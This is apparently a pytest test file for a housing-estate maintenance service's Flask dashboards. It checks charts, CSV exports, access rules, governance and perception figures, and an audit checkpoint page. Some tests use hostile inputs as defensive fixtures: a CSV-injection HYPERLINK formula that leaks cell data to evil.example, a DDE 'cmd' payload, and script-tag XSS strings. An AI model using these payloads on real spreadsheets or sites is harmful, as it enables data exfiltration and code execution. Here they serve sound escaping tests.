"""The dashboards through the Flask client: charts and tables from the read models, their CSV,
who may open them, a case as of a moment, and the audit checkpoint with its command.

Each scenario works in a PPR of its own on the module's shared storage, so its figures are
exactly the cases it made. Times that matter are backfilled with ``occurred_at`` by the admin;
read models are caught up with ``Cast.project()`` before a dashboard is read. Pages are read in
English (the Malay catalogue is merged separately).
"""

from __future__ import annotations

import csv
import io
import re
import uuid
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from flask import Flask

from domain.actors import Role
from domain.clock import MALAYSIA
from service.web.dashboards.charts import Chart, Series, csv_safe, number_text, render
from tests.e2e.conftest import (
    AUDIT_SIGNER,
    REPORT,
    SLA,
    Cast,
    build_cast,
    establish_committee,
    held_meeting_with_motion,
    open_survey,
    succeed,
)
from tests.e2e.web import Visitor, in_english, signed_in, text_of
from workers.templates import format_day

HOUR = timedelta(hours=1)
DAY = timedelta(days=1)


def now_utc() -> datetime:
    """Now, to the second (so backfilled times and hand-computed hours stay round)."""
    return datetime.now(tz=UTC).replace(microsecond=0)


def malaysian_day(moment: datetime) -> str:
    """The Malaysian calendar day of a moment, as the date inputs send it."""
    return moment.astimezone(MALAYSIA).date().isoformat()


def month_label(moment: datetime) -> str:
    """The Malaysian month of a moment as the tables name it ("Mar 2026")."""
    local = moment.astimezone(MALAYSIA)
    return format_day(date(local.year, local.month, 1), "en").split(" ", 1)[1]


def fresh_ppr(cast: Cast, **category_names: str) -> str:
    """Register a PPR of the test's own (blocks A and B; LIFT and WATER) and return its code."""
    code = f"D{uuid.uuid4().hex[:8].upper()}"
    succeed(cast.admin, "/api/v1/pprs", {"code": code, "name": f"PPR Papan {code}"})
    for block in ("A", "B"):
        body = {"code": block, "name": f"Blok {block}", "floors": 17}
        succeed(cast.admin, f"/api/v1/pprs/{code}/blocks", body)
    for category, english in (("LIFT", "Lift"), ("WATER", "Water supply")):
        name = category_names.get(category, english)
        category_body = {"code": category, "name_ms": name, "name_en": name, "sla": SLA}
        succeed(cast.admin, f"/api/v1/pprs/{code}/categories", category_body)
    return code


def report(cast: Cast, ppr: str, at: datetime, **overrides: Any) -> str:
    """Report a case in ``ppr`` at ``at`` (the admin backfills) and return its id."""
    body = {**REPORT, "ppr": ppr, "occurred_at": at.isoformat(), **overrides}
    return str(succeed(cast.admin, "/api/v1/cases", body)["id"])


def act(cast: Cast, case_id: str, command: str, at: datetime, **body: Any) -> None:
    """Run a command on a case at ``at`` (the admin backfills)."""
    succeed(
        cast.admin, f"/api/v1/cases/{case_id}/{command}", {**body, "occurred_at": at.isoformat()}
    )


def panel_of(page: str, name: str) -> str:
    """The HTML of one dashboard panel (its heading, chart, table and link)."""
    assert f'id="{name}"' in page, f"no panel {name}"
    return page.split(f'<section class="panel" id="{name}"', 1)[1].split("</section>", 1)[0]


def table_of(page: str, name: str) -> list[list[str]]:
    """A panel's table as the person reads it: header row first, each cell's text."""
    rows = re.findall(r"<tr[^>]*>(.*?)</tr>", panel_of(page, name), re.S)
    return [
        [text_of(cell) for cell in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S)]
        for row in rows
    ]


def row_of(table: list[list[str]], header: str) -> list[str]:
    """The cells of the row headed ``header``."""
    for row in table:
        if row[0] == header:
            return row[1:]
    raise AssertionError(f"no row {header!r} in {[row[0] for row in table]}")


def column(table: list[list[str]], name: str) -> int:
    """The index (among a row's cells) of the column named ``name``."""
    return table[0].index(name) - 1


def csv_link(page: str, name: str) -> str:
    """The CSV download link of a panel."""
    found = re.search(r'<a href="([^"]+\.csv[^"]*)" download>', panel_of(page, name))
    assert found, f"no CSV link on {name}"
    return found.group(1).replace("&amp;", "&")


def svg_of(page: str, name: str) -> str:
    """A panel's chart."""
    found = re.search(r"<svg\b.*?</svg>", panel_of(page, name), re.S)
    assert found, f"no chart on {name}"
    return found.group(0)


def svg_texts(svg: str) -> list[str]:
    """The texts written in a chart (labels, values, axis)."""
    return [text_of(text) for text in re.findall(r"<text\b[^>]*>(.*?)</text>", svg, re.S)]


# -- the world of the resolution dashboard ---------------------------------------------------------


@dataclass
class Cases:
    """A PPR of its own with three cases whose times are known to the hour."""

    ppr: str
    now: datetime
    fixed_fast: str  # LIFT: acknowledged after 6 h, fixed after 100 h, confirmed after 110 h
    fixed_slow: str  # LIFT: acknowledged after 10 h, fixed after 200 h, confirmed after 210 h
    waiting: str  # WATER: reported 3 days ago, not acknowledged, a community priority


@pytest.fixture(scope="module")
def cases(shared_cast: Cast) -> Cases:
    """The module's resolution world (read only)."""
    cast = shared_cast
    ppr = fresh_ppr(cast)
    now = now_utc()
    fast_at, slow_at, waiting_at = now - 10 * DAY, now - 9 * DAY, now - 3 * DAY
    fast = report(cast, ppr, fast_at, unit=None, common_area="lobi lif")
    act(cast, fast, "acknowledge", fast_at + 6 * HOUR)
    act(cast, fast, "resolve", fast_at + 100 * HOUR, note="Motor diganti.")
    act(cast, fast, "confirm", fast_at + 110 * HOUR, rating=5)
    slow = report(cast, ppr, slow_at, block="B")
    act(cast, slow, "acknowledge", slow_at + 10 * HOUR)
    act(cast, slow, "resolve", slow_at + 200 * HOUR, note="Pintu dibaiki.")
    act(cast, slow, "confirm", slow_at + 210 * HOUR, rating=4)
    waiting = report(cast, ppr, waiting_at, category="WATER")
    committee = cast.caller(Role.COMMITTEE, [ppr], "Setiausaha")
    succeed(committee, f"/api/v1/cases/{waiting}/designate-priority", {"reason": "Mesyuarat"})
    cast.project()
    return Cases(ppr, now, fast, slow, waiting)


def test_the_auditor_sees_resolution_times_by_category_as_a_chart_and_a_table(
    shared_app: Flask, shared_cast: Cast, cases: Cases
) -> None:
    auditor = in_english(shared_app, shared_cast.auditor)
    response = auditor.get(f"/dashboard/?ppr={cases.ppr}")
    assert response.status_code == 200
    page = response.get_data(as_text=True)

    table = table_of(page, "times-by-category")
    lift = row_of(table, "Lift")
    assert lift[column(table, "Cases reported")] == "2"
    assert lift[column(table, "Time to acknowledge: median (hours)")] == "8"
    assert lift[column(table, "Time to acknowledge: p90 (hours)")] == "10"
    assert lift[column(table, "Time to resolve (claimed fixed): median (hours)")] == "150"
    assert lift[column(table, "Time to resolve (claimed fixed): p90 (hours)")] == "200"
    water = row_of(table, "Water supply")
    assert water[column(table, "Cases reported")] == "1"
    assert water[column(table, "Time to resolve (claimed fixed): median (hours)")] == "\u2013"
    assert row_of(table, "All categories")[0] == "3"

    chart = svg_of(page, "times-by-category")
    assert 'role="img"' in chart
    assert "Time to resolve (claimed fixed) by category: median and p90 (hours)" in chart
    assert {"150 median", "200 p90", "Lift", "Water supply"} <= set(svg_texts(chart))


def test_the_chosen_duration_is_drawn_and_every_duration_stays_in_the_table(
    shared_app: Flask, shared_cast: Cast, cases: Cases
) -> None:
    auditor = in_english(shared_app, shared_cast.auditor)
    page = auditor.get(f"/dashboard/?ppr={cases.ppr}&measure=acknowledge").get_data(as_text=True)

    chart = svg_of(page, "times-by-category")
    assert "Time to acknowledge by category" in chart
    assert {"8 median", "10 p90"} <= set(svg_texts(chart))
    assert "Time to resolve (claimed fixed): p90 (hours)" in table_of(page, "times-by-category")[0]


def test_sla_breaches_backlog_fixes_and_priorities_show_the_figures_of_the_cases(
    shared_app: Flask, shared_cast: Cast, cases: Cases
) -> None:
    auditor = in_english(shared_app, shared_cast.auditor)
    page = auditor.get(f"/dashboard/?ppr={cases.ppr}").get_data(as_text=True)

    sla = table_of(page, "sla-by-month")
    whole = row_of(sla, "Whole period")
    # One fix of two took longer than the 168 h target; the water case is an ongoing breach.
    assert whole[column(sla, "Resolution: breached (%)")] == "50"
    assert whole[column(sla, "Resolution: cases judged")] == "2"
    assert whole[column(sla, "Acknowledgement: breached (%)")] == "33.33"
    assert month_label(cases.now - 3 * DAY) in [row[0] for row in sla]
    assert "SLA breaches by month reported (%)" in svg_of(page, "sla-by-month")

    assert row_of(table_of(page, "backlog-age"), "All open cases") == ["1"]
    fixes = row_of(table_of(page, "claimed-vs-verified"), "Whole period")
    assert fixes[:3] == ["2", "2", "100"]
    assert row_of(table_of(page, "priorities"), "Whole period") == ["1", "0", "0"]
    assert "Cases reported 3" in text_of(page)


def test_a_period_limits_the_figures_to_the_cases_reported_in_it(
    shared_app: Flask, shared_cast: Cast, cases: Cases
) -> None:
    auditor = in_english(shared_app, shared_cast.auditor)
    start = malaysian_day(cases.now - 5 * DAY)
    page = auditor.get(f"/dashboard/?ppr={cases.ppr}&from={start}").get_data(as_text=True)

    assert "Cases reported 1" in text_of(page)
    table = table_of(page, "times-by-category")
    assert row_of(table, "Water supply")[0] == "1"
    assert row_of(table, "All categories")[0] == "1"
    assert f"from={start}" in csv_link(page, "times-by-category")


def test_the_csv_of_a_chart_holds_the_numbers_of_its_table(
    shared_app: Flask, shared_cast: Cast, cases: Cases
) -> None:
    auditor = in_english(shared_app, shared_cast.auditor)
    page = auditor.get(f"/dashboard/?ppr={cases.ppr}").get_data(as_text=True)

    for name in ("times-by-category", "times-by-month", "sla-by-month", "claimed-vs-verified"):
        download = auditor.get(csv_link(page, name))
        assert download.status_code == 200
        assert download.headers["Content-Type"] == "text/csv; charset=utf-8"
        disposition = download.headers["Content-Disposition"]
        assert disposition.startswith("attachment; filename=")
        assert f"k2k-{name}-{cases.ppr}" in disposition
        rows = list(csv.reader(io.StringIO(download.get_data(as_text=True))))
        shown = [[cell.replace("\u2013", "") for cell in row] for row in table_of(page, name)]
        assert rows == shown, name


def test_a_formula_in_a_category_name_is_made_harmless_in_the_csv(
    shared_app: Flask, shared_cast: Cast
) -> None:
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")'
    ppr = fresh_ppr(shared_cast, LIFT=formula)
    case_id = report(shared_cast, ppr, now_utc() - 2 * DAY)
    act(shared_cast, case_id, "acknowledge", now_utc() - DAY)
    shared_cast.project()
    auditor = in_english(shared_app, shared_cast.auditor)
    page = auditor.get(f"/dashboard/?ppr={ppr}").get_data(as_text=True)

    assert row_of(table_of(page, "times-by-category"), formula)[0] == "1"  # shown as it is
    body = auditor.get(csv_link(page, "times-by-category")).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1][0] == f"'{formula}"
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_cells_that_look_like_formulas_get_a_quote_but_numbers_stay_numbers() -> None:
    for dangerous in ("=1+2", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx"):
        assert csv_safe(dangerous) == f"'{dangerous}"
    assert csv_safe("Lift") == "Lift"
    assert number_text(-20.0) == "-20"
    assert number_text(66.666) == "66.67"


def test_a_ppr_without_cases_says_there_is_no_data_yet_instead_of_drawing_a_chart(
    shared_app: Flask, shared_cast: Cast
) -> None:
    ppr = fresh_ppr(shared_cast)
    auditor = in_english(shared_app, shared_cast.auditor)
    for path in ("/dashboard/", "/dashboard/governance", "/dashboard/perception"):
        page = auditor.get(f"{path}?ppr={ppr}")
        assert page.status_code == 200
        body = page.get_data(as_text=True)
        assert "No data yet for this period." in text_of(body)
        assert "<svg" not in body.split("<main", 1)[1], path


# -- who may open the dashboards -------------------------------------------------------------------

DASHBOARD_PATHS = [
    "/dashboard/",
    "/dashboard/governance",
    "/dashboard/perception",
    "/dashboard/cases/times-by-category.csv",
    "/dashboard/case-as-of",
    "/dashboard/audit",
]


@pytest.mark.parametrize("path", DASHBOARD_PATHS)
def test_a_visitor_who_is_not_signed_in_is_sent_to_sign_in(shared_app: Flask, path: str) -> None:
    response = Visitor(shared_app).get(path)
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/signin?next=/dashboard")


@pytest.mark.parametrize("path", DASHBOARD_PATHS)
def test_a_resident_cannot_open_the_dashboards(
    shared_app: Flask, shared_cast: Cast, path: str
) -> None:
    response = signed_in(shared_app, shared_cast.resident).get(path)
    assert response.status_code == 403
    assert response.mimetype == "text/html"


def test_the_menu_offers_the_dashboard_to_staff_and_auditors_but_not_to_residents(
    shared_app: Flask, shared_cast: Cast
) -> None:
    for caller in (
        shared_cast.auditor,
        shared_cast.admin,
        shared_cast.committee,
        shared_cast.management,
    ):
        assert 'href="/dashboard/"' in signed_in(shared_app, caller).get("/").get_data(as_text=True)
    assert 'href="/dashboard/"' not in signed_in(shared_app, shared_cast.resident).get(
        "/"
    ).get_data(as_text=True)


def test_management_of_one_ppr_sees_only_its_own_ppr_and_cannot_choose_another(
    shared_app: Flask, shared_cast: Cast
) -> None:
    officer = in_english(shared_app, shared_cast.other_ppr_management)
    own = officer.get("/dashboard/").get_data(as_text=True)
    assert '<option value="LSB"' in own
    assert '<option value="SRP"' not in own
    assert '<option value=""' not in own  # no "all PPRs" for one PPR's officer
    for path in ("/dashboard/", "/dashboard/governance", "/dashboard/perception"):
        refused = officer.get(f"{path}?ppr=SRP")
        assert refused.status_code == 403, path
        assert "only for your own PPRs" in text_of(refused)
    assert officer.get("/dashboard/cases/times-by-category.csv?ppr=srp").status_code == 403
    committee = signed_in(shared_app, shared_cast.committee)
    assert committee.get("/dashboard/?ppr=SRP").status_code == 200


def test_auditors_and_the_admin_choose_any_ppr_or_all_of_them(
    shared_app: Flask, shared_cast: Cast
) -> None:
    shared_cast.project()  # the chooser names the PPRs of the directory's read model
    for caller in (shared_cast.auditor, shared_cast.admin):
        page = in_english(shared_app, caller).get("/dashboard/").get_data(as_text=True)
        assert '<option value="" selected>All PPRs</option>' in page
        assert '<option value="SRP"' in page
        assert '<option value="LSB"' in page


@pytest.mark.parametrize(
    ("query", "status", "message"),
    [
        ("ppr=NOPE", 404, "There is no PPR NOPE."),
        ("from=2026-13-45", 400, "Give a date such as 2026-01-31."),
        ("from=2026-03-10&to=2026-03-01", 400, "The last day must not be before the first day."),
        ("from=0001-01-01", 400, "Give a date between 1970 and 2100."),
        ("measure=speed", 400, "Choose a measure from the list."),
        ("ppr=%3Cscript%3E", 400, "Choose a PPR from the list."),
    ],
)
def test_a_bad_choice_gets_a_page_that_says_what_is_wrong_and_changes_nothing(
    shared_app: Flask, shared_cast: Cast, query: str, status: int, message: str
) -> None:
    auditor = in_english(shared_app, shared_cast.auditor)
    head = shared_cast.log_head()
    response = auditor.get(f"/dashboard/?{query}")
    assert response.status_code == status
    assert response.mimetype == "text/html"
    assert message in text_of(response)
    assert "<script>" not in response.get_data(as_text=True)
    assert auditor.get(f"/dashboard/cases/times-by-category.csv?{query}").status_code == status
    assert shared_cast.log_head() == head


def test_an_unknown_table_or_dashboard_has_no_csv(shared_app: Flask, shared_cast: Cast) -> None:
    auditor = signed_in(shared_app, shared_cast.auditor)
    assert auditor.get("/dashboard/cases/no-such-table.csv").status_code == 404
    assert auditor.get("/dashboard/nothing/times-by-category.csv").status_code == 404


# -- governance and perception ---------------------------------------------------------------------

MEMBERS = [
    {"member_id": "CHAIR", "name": "Puan Zaleha", "role": "chair", "selection": "elected",
     "block": "A", "gender": "female", "age_band": "45-54"},
    {"member_id": "SEC", "name": "Cik Meena", "role": "secretary", "selection": "elected",
     "block": "B", "gender": "female", "age_band": "35-44"},
    {"member_id": "TRE", "name": "Encik Rahman", "role": "treasurer", "selection": "appointed",
     "block": "A", "gender": "male", "age_band": "55-64"},
]  # fmt: skip


def test_the_governance_dashboard_counts_meetings_quorum_and_seat_shares(
    shared_app: Flask, shared_cast: Cast
) -> None:
    ppr = fresh_ppr(shared_cast)
    keeper = shared_cast.caller(Role.COMMITTEE, [ppr], "Setiausaha")
    establish_committee(keeper, ppr, MEMBERS)
    held_meeting_with_motion(keeper, ppr, ["CHAIR", "SEC", "TRE"])
    shared_cast.project()
    auditor = in_english(shared_app, shared_cast.auditor)
    page = auditor.get(f"/dashboard/governance?ppr={ppr}").get_data(as_text=True)

    meetings = table_of(page, "meetings")
    assert row_of(meetings, "Meetings held") == ["1"]
    assert row_of(meetings, "Meetings that met their quorum") == ["1"]
    assert row_of(meetings, "Quorum met (%)") == ["100"]
    seats = table_of(page, "seats-by-gender")
    assert row_of(seats, "Women") == ["2", "66.67", "2", "66.67"]
    assert row_of(seats, "Men") == ["1", "33.33", "1", "33.33"]
    assert {"66.67% seats", "33.33% leaders"} <= set(svg_texts(svg_of(page, "seats-by-gender")))
    assert row_of(table_of(page, "seats-by-block"), "A") == ["2"]
    assert "Decisions" in text_of(page)


def test_the_perception_dashboard_shows_each_side_and_the_gap_per_wave(
    shared_app: Flask, shared_cast: Cast
) -> None:
    cast = shared_cast
    ppr = fresh_ppr(cast)
    items = [{"code": "trust", "text_ms": "Percaya?", "text_en": "Trust?", "scale": "likert_5",
              "construct": "trust_in_committee"}]  # fmt: skip
    residents = [cast.caller(Role.RESIDENT, [ppr], f"Penduduk {n}") for n in range(5)]
    managers = [cast.caller(Role.MANAGEMENT, [ppr], f"Pegawai {n}") for n in range(5)]
    first = open_survey(cast.admin, [ppr], starter=None, items=items, wave="2026-H1")
    second = open_survey(cast.admin, [ppr], starter=None, items=items, wave="2026-H2")
    for resident, value in zip(residents, (5, 5, 4, 4, 1), strict=True):
        succeed(resident, f"/api/v1/surveys/{first['id']}/responses", {"answers": {"trust": value}})
        succeed(resident, f"/api/v1/surveys/{second['id']}/responses", {"answers": {"trust": 5}})
    for manager in managers:
        succeed(manager, f"/api/v1/surveys/{first['id']}/responses", {"answers": {"trust": 4}})
    succeed(managers[0], f"/api/v1/surveys/{second['id']}/responses", {"answers": {"trust": 2}})
    cast.project()
    auditor = in_english(shared_app, cast.auditor)
    page = auditor.get(f"/dashboard/perception?ppr={ppr}").get_data(as_text=True)

    first_wave = table_of(page, f"perception-{ppr}-2026-H1")
    assert row_of(first_wave, "Trust in the committee") == ["5", "80", "5", "100", "-20"]
    chart = svg_of(page, f"perception-{ppr}-2026-H1")
    assert {"80% residents", "100% management"} <= set(svg_texts(chart))
    # One manager answered the second wave: that side, and so the gap, are hidden.
    second_wave = table_of(page, f"perception-{ppr}-2026-H2")
    assert row_of(second_wave, "Trust in the committee") == [
        "5",
        "100",
        "hidden",
        "hidden",
        "hidden",
    ]
    trend = table_of(page, f"perception-gap-trend-{ppr}")
    assert trend[0] == ["Construct", "2026-H1", "2026-H2"]
    assert row_of(trend, "Trust in the committee") == ["-20", "\u2013"]
    download = auditor.get(csv_link(page, f"perception-{ppr}-2026-H1")).get_data(as_text=True)
    assert "Trust in the committee,5,80,5,100,-20" in download  # a negative gap stays a number


def test_the_backlog_headline_says_when_it_was_counted(
    shared_app: Flask, shared_cast: Cast
) -> None:
    auditor = in_english(shared_app, shared_cast.auditor)
    assert "Open now (backlog)" in text_of(auditor.get("/dashboard/?ppr=SRP"))
    ended = text_of(auditor.get("/dashboard/?ppr=SRP&to=2026-01-31"))
    assert "Open at the end of the period (backlog)" in ended
    assert "Open now" not in ended


def test_the_perception_dashboard_names_no_period_but_keeps_it_for_the_others(
    shared_app: Flask, shared_cast: Cast
) -> None:
    auditor = in_english(shared_app, shared_cast.auditor)
    period = "ppr=SRP&from=2026-01-01&to=2026-03-31"
    page = auditor.get(f"/dashboard/perception?{period}")
    assert "all the figures so far" in text_of(page)
    assert "31 Mar 2026" not in text_of(page)
    # The period stays in the way back to the dashboards that use it.
    assert "/dashboard/?ppr=SRP&amp;from=2026-01-01&amp;to=2026-03-31" in page.get_data(
        as_text=True
    )


# -- a case as of a moment -------------------------------------------------------------------------


def local(moment: datetime) -> str:
    """A moment as a ``datetime-local`` input sends it (Malaysia time, no zone)."""
    return moment.astimezone(MALAYSIA).replace(tzinfo=None).isoformat(timespec="seconds")


def test_the_case_as_of_a_date_shows_the_status_it_had_then(
    shared_app: Flask, shared_cast: Cast
) -> None:
    now = now_utc()
    case_id = report(shared_cast, "SRP", now - 3 * DAY)
    act(shared_cast, case_id, "acknowledge", now - 2 * DAY)
    act(shared_cast, case_id, "resolve", now - DAY, note="Dibaiki.")
    shared_cast.project()
    auditor = in_english(shared_app, shared_cast.auditor)

    def then(moment: datetime) -> str:
        response = auditor.get(f"/dashboard/case-as-of?case={case_id}&at={local(moment)}")
        assert response.status_code == 200
        body = response.get_data(as_text=True)
        return body.split('class="card as-of"', 1)[1].split('class="as-of-now"', 1)[0]

    assert 'class="status status-reported"' in then(now - 60 * HOUR)
    assert 'class="status status-acknowledged"' in then(now - 36 * HOUR)
    assert 'class="status status-resolved"' in then(now)
    assert "Marked as fixed" in text_of(then(now))
    early = auditor.get(f"/dashboard/case-as-of?case={case_id}&at={local(now - 60 * HOUR)}")
    history = text_of(early).split("What had happened by then", 1)[1]
    assert "reported the problem" in history
    assert "acknowledged the case" not in history
    assert "Now: Marked as fixed" in text_of(early)


def test_the_case_as_of_a_date_refuses_what_it_cannot_show_and_keeps_cases_private(
    shared_app: Flask, shared_cast: Cast
) -> None:
    now = now_utc()
    case_id = report(shared_cast, "SRP", now - 2 * DAY)
    auditor = in_english(shared_app, shared_cast.auditor)
    before = auditor.get(f"/dashboard/case-as-of?case={case_id}&at={local(now - 3 * DAY)}")
    assert before.status_code == 404
    assert "The case had not been reported yet at that moment." in text_of(before)
    bad = auditor.get(f"/dashboard/case-as-of?case={case_id}&at=yesterday")
    assert bad.status_code == 400
    assert "Give a date and time such as 2026-01-31 14:30." in text_of(bad)
    assert auditor.get("/dashboard/case-as-of?case=42&at=2026-01-01T10:00").status_code == 400
    outsider = in_english(shared_app, shared_cast.other_ppr_management)
    hidden = outsider.get(f"/dashboard/case-as-of?case={case_id}&at={local(now)}")
    assert hidden.status_code == 404
    assert "There is no case with this number that you may see." in text_of(hidden)
    assert auditor.get("/dashboard/case-as-of").status_code == 200  # the empty form


# -- the audit checkpoint --------------------------------------------------------------------------


def test_the_audit_page_shows_the_latest_checkpoint_and_the_command_to_verify_it(
    audited_app: Flask,
) -> None:
    cast = build_cast(audited_app, audited_app.test_client())
    cast.report()
    cast.project()
    checkpointer = cast.runtime.checkpointer
    assert checkpointer is not None
    signed = checkpointer.sign_if_due(force=True)
    assert signed is not None
    auditor = in_english(audited_app, cast.auditor)
    page = auditor.get("/dashboard/audit")
    assert page.status_code == 200
    body, text = page.get_data(as_text=True), text_of(page)

    assert f"Events covered (tree size) {signed.size}" in text
    assert signed.root_hash in text
    assert "<pre" in body
    assert signed.note.splitlines()[0] in body  # the signed note itself, first line the origin
    assert AUDIT_SIGNER.verifier.verifier_key in text
    url = cast.runtime.settings.public_url
    assert (
        f"k2k audit verify --url {url} --public-key audit.key.pub "
        "--state ~/k2k-audit-state.json --full"
    ) in text


def test_without_a_signing_key_the_audit_page_says_so_plainly(
    shared_app: Flask, shared_cast: Cast
) -> None:
    page = in_english(shared_app, shared_cast.auditor).get("/dashboard/audit")
    assert page.status_code == 200
    assert "This service has no audit signing key configured" in text_of(page)


# -- for every screen ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/dashboard/",
        "/dashboard/governance",
        "/dashboard/perception",
        "/dashboard/case-as-of",
        "/dashboard/audit",
    ],
)
def test_every_dashboard_is_laid_out_for_a_phone_with_labelled_fields_and_captioned_tables(
    shared_app: Flask, shared_cast: Cast, cases: Cases, path: str
) -> None:
    page = signed_in(shared_app, shared_cast.auditor).get(path).get_data(as_text=True)
    assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in page
    for input_id in re.findall(r'<(?:input|select|textarea)\b[^>]*\bid="([^"]+)"', page):
        assert f'for="{input_id}"' in page, f"{path}: #{input_id} has no label"
    for table in re.findall(r"<table\b.*?</table>", page, re.S):
        assert "<caption" in table
        assert re.findall(r"<th\b(?![^>]*scope=)", table) == []
    for svg in re.findall(r"<svg\b[^>]*>", page):
        if "chart-svg" in svg:
            assert 'role="img"' in svg
            assert "aria-label=" in svg


def test_a_chart_escapes_what_it_writes_and_names_itself_for_screen_readers() -> None:
    chart = Chart(
        "bars",
        "Lifts <b>&</b>",
        ("<script>alert(1)</script>", "Air"),
        (Series("Median", (12.5, None), "median"), Series("p90", (-3.0, 40.0), "p90")),
        unit="hours",
    )
    svg = str(render(chart, "chart-test"))
    assert "<script>" not in svg
    assert "&lt;script&gt;" in svg
    assert '<title id="chart-test-title">Lifts &lt;b&gt;&amp;&lt;/b&gt;</title>' in svg
    assert 'role="img"' in svg
    assert {"12.5 median", "-3 p90", "40 p90", "hours"} <= set(svg_texts(svg))
